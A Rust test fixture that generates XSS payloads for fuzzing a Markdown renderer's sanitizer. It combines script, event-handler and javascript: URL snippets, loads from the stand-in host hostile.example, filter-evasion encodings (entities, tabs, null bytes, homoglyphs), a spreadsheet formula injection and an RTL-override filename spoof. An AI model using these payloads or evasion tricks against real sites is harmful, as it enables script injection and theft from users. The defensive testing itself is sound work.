//! Snippets that mean harm: what is to run or to load, written in every way that hides it, at
//! every place of a Markdown text where something could be made of it.

/// What is to run or to load. Whatever runs calls `alert`; whatever loads has `hostile` in its name.
const HARMS: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//hostile.example/x.js></script>",
    "<img src=hostile-image onerror=alert(1)>",
    "<img src=\"http://hostile.example/beacon.png\">",
    "<image href=hostile-image onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=hostile-image onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<object data=\"hostile.swf\"></object>",
    "<embed src=\"hostile.swf\">",
    "<video><source onerror=alert(1) src=hostile-video></video>",
    "<audio src=hostile-audio onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=hostile-image onerror=alert(1)>",
    "<link rel=stylesheet href=\"http://hostile.example/x.css\">",
    "<style>@import 'http://hostile.example/x.css';</style>",
    "<div style=\"background:url(http://hostile.example/b.png)\" onclick=alert(1)>x</div>",
    "<base href=\"http://hostile.example/\">",
    "<meta http-equiv=refresh content=\"0;url=http://hostile.example/\">",
    "<template><img src=hostile-image onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=hostile-image onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=hostile-image onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=hostile-image onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=hostile-image onerror=alert(1)>\">",
    "</p></li></ul></div><img src=hostile-image onerror=alert(1)>",
    "<b onmouseover=alert(1)//x=`>hover</b>",
    "<a href=x onclick=alert(1)>x</a>",
    "<x onfocus=alert(1) tabindex=1 id=x>",
    "<!--><img src=hostile-image onerror=alert(1)>-->",
    "<![CDATA[<img src=hostile-image onerror=alert(1)>]]>",
    "<?php echo '<img src=hostile-image onerror=alert(1)>' ?>",
    "javascript:alert(1)",
    "javascript:alert(1)//http://e.example/",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:http://hostile.example/x",
    "file:///etc/hostile",
    "//hostile.example/x",
    "\\\\hostile.example\\x",
    "http://e.example/\" onmouseover=\"alert(1)",
    "http://e.example/' onmouseover='alert(1)",
    "onclick=alert(1)",
    "#x .y onclick=alert(1)",
    "x\" autofocus onfocus=\"alert(1)",
    "</code></pre><script>alert(1)</script>",
];

/// Where it stands; `@` is its place.
const PLACES: &[&str] = &[
    "@",
    "text @ text",
    "# @",
    "# x {@}",
    "@\n===",
    "- @",
    "- a\n\n  @",
    "1. a\n   - @",
    "- [ ] @",
    "> @",
    "| a |\n|:-:|\n| @ |",
    "|@|b|\n|---|---|\n|c|d|",
    "**@**",
    "~~@~~",
    "`@`",
    "    @",
    "```\n@\n```",
    "``` @\nx\n```",
    "```\nnever closed\n@",
    "[x](@)",
    "[x](<@>)",
    "[x](http://e.example \"@\")",
    "[@](http://e.example)",
    "![x](@)",
    "![@](http://e.example/x.png)",
    "[![x](@)](@)",
    "<@>",
    "[x][r]\n\n[r]: @",
    "[@]\n\n[@]: http://e.example",
    "[^@]\n\n[^@]: @",
    "<a href=\"@\">x</a>",
    "<div>\n@\n</div>",
    "<div\n@\n>",
    "<!-- @ -->",
    "<!-- @",
    "<!-- facts -->@",
    "<br @>",
    "\\@",
    "&lt;@&gt;",
    "---\nkey: @\n---\n",
    "$@$ $$@$$",
    "- **Start:** @",
    "- **14:30** – @",
    "::: @\n:::",
    "@\n\n</details></div></main><p>",
];

/// How it is written: as it is, or so that a filter does not know it again.
const SPELLINGS: &[fn(&str) -> String] = &[
    |harm| harm.to_owned(),
    |harm| harm.to_uppercase(),
    // Character references: of every letter, of some, without their semicolon.
    |harm| {
        each(
            harm,
            |c| c.is_alphabetic(),
            |c| format!("&#{};", u32::from(c)),
        )
    },
    |harm| {
        each(
            harm,
            |c| "<>:/\"'".contains(c),
            |c| format!("&#x{:x};", u32::from(c)),
        )
    },
    |harm| {
        each(
            harm,
            |c| "js".contains(c),
            |c| format!("&#0000{}", u32::from(c)),
        )
    },
    |harm| {
        harm.replace('<', "&lt;")
            .replace(':', "&colon;")
            .replace('(', "&lpar;")
    },
    // What browsers leave out of an address.
    |harm| {
        harm.replace("script:", "scr\tipt:")
            .replace("onerror", "on\terror")
    },
    |harm| harm.replace("script:", "scr&Tab;ipt&NewLine;:"),
    |harm| format!("\u{1} {harm}"),
    |harm| harm.replace("script", "scr\u{0}ipt"),
    // What Markdown leaves out.
    |harm| each(harm, |c| c.is_ascii_punctuation(), |c| format!("\\{c}")),
    |harm| harm.replace("<", "\\<<"),
    |harm| {
        harm.replace("script", "scr**ip**t")
            .replace("image", "im`a`ge")
    },
    |harm| harm.replace(':', "%3A").replace('<', "%3C"),
    // Letters that look alike, or are made alike by someone who means well.
    |harm| harm.replace('s', "\u{17f}").replace('k', "\u{212a}"),
    |harm| harm.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"),
    |harm| harm.replace(' ', "/").replace('=', " = "),
    |harm| harm.replace(' ', "\n"),
];

/// Texts that are hostile by themselves: to an export, to a parser, to a page that believes names.
const ALONE: &[&str] = &[
    "```",
    "</details>",
    "-->",
    "---",
    "a\n===",
    "| x |\n|---|",
    "[^1]: x",
    "[ref]: http://e",
    "- [x] done",
    "1986. A",
    "C:\\dir\\",
    "trailing \\",
    "   ",
    "🎉🎉",
    "\u{202e}gpj.exe",
    "=cmd|' /C calc'!A0",
    "../../x",
    "\u{fffd}",
    "[^app]\n\n[^app]: x",
    "[[javascript:alert(1)]]",
    "[^constructor] [^__proto__]",
    "# getElementById {#getElementById}",
    "<form id=app><input name=innerHTML></form>",
    "<a id=app name=body>",
    "<br>",
    "<BR/>",
    "<br >",
    "a<br>b<br/>c",
    "&#0; &#x110000; &#55296; &bogus;",
    "\u{feff}<script>",
    "\u{2028}<img src=hostile-image>",
    "<http://e.example/<script>>",
    "<mailto:a@b.example>",
    "www.hostile.example",
    "a@hostile.example",
    "~~~ x\" onclick=\"alert(1)\n~~~",
    "|a|\n|:-:\" onclick=\"alert(1)|\n|b|",
    "1000000000000000000. x",
    "-1. x",
    "[x](#\" onclick=\"alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\u{a0}javascript:alert(1))",
    "[a]: <javascript:alert(1)> 'x'\n\n[a][]",
    "<!DOCTYPE html>",
    "<plaintext>",
    "]]>",
];

fn each(text: &str, is_meant: impl Fn(char) -> bool, written: impl Fn(char) -> String) -> String {
    let one = |c| {
        if is_meant(c) {
            written(c)
        } else {
            String::from(c)
        }
    };
    text.chars().map(one).collect()
}

/// Every snippet: harm by place by spelling, and those that need none of it.
pub(crate) fn snippets() -> impl Iterator<Item = String> {
    let spelled = SPELLINGS
        .iter()
        .flat_map(|spelling| HARMS.iter().map(|harm| spelling(harm)));
    let alone = ALONE.iter().map(|text| (*text).to_owned());
    alone
        .chain(spelled)
        .flat_map(|text| PLACES.iter().map(move |place| place.replace('@', &text)))
}
